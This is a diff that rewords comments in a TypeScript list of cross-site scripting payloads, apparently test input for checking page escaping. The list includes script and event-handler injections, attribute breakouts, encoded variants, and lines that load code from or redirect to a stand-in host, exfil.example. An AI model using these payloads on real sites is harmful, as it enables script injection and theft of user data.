@@ -1,10 +1,10 @@
-/** What every payload would run; it needs neither quotes nor spaces. */
+/** Code that every payload tries to run, without quotes or spaces. */
 const CODE = 'localStorage.stolen=1'
 const ELSEWHERE = 'https://exfil.example'
 
-/** Texts that a careless page runs, loads or draws as markup; none longer than 100 characters, the shortest limit. */
+/** Texts that a careless page runs, loads or draws as markup. The shortest field takes 100 characters. */
 export const HOSTILE_TEXTS: readonly string[] = [
-  // Markup where text belongs.
+  // Plain markup.
   `<script>${CODE}</script>`,
   `<script src=${ELSEWHERE}/a.js></script>`,
   `<img src=x onerror=${CODE}>`,
@@ -29,7 +29,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
   `<form action=${ELSEWHERE}><button autofocus>Sign in</button></form>`,
   `<a href=javascript:${CODE}>name</a>`,
-  // What gets out of where it was put.
+  // Breaks out of attributes, scripts and comments.
   `" onmouseover="${CODE}" style="position:fixed;inset:0`,
   `' autofocus onfocus='${CODE}`,
   `\`onerror=${CODE} \``,
@@ -40,14 +40,14 @@ export const HOSTILE_TEXTS: readonly string[] = [
   `--><img src=x onerror=${CODE}>`,
   `]]><img src=x onerror=${CODE}>`,
   `";${CODE};"`,
-  // What is harmless until it is decoded, nested or mutated.
+  // Dangerous once decoded, nested or mutated.
   `&lt;img src=x onerror=${CODE}&gt;`,
   `\\u003cimg src=x onerror=${CODE}\\u003e`,
   `%3Cimg%20src%3Dx%20onerror%3D${CODE}%3E`,
   `<scr<script>ipt>${CODE}</scr</script>ipt>`,
   `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
   `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
-  // What templates and addresses run.
+  // Code in templates and URLs.
   `\${${CODE}}`,
   `{{constructor.constructor('${CODE}')()}}`,
   `javascript:${CODE}`,
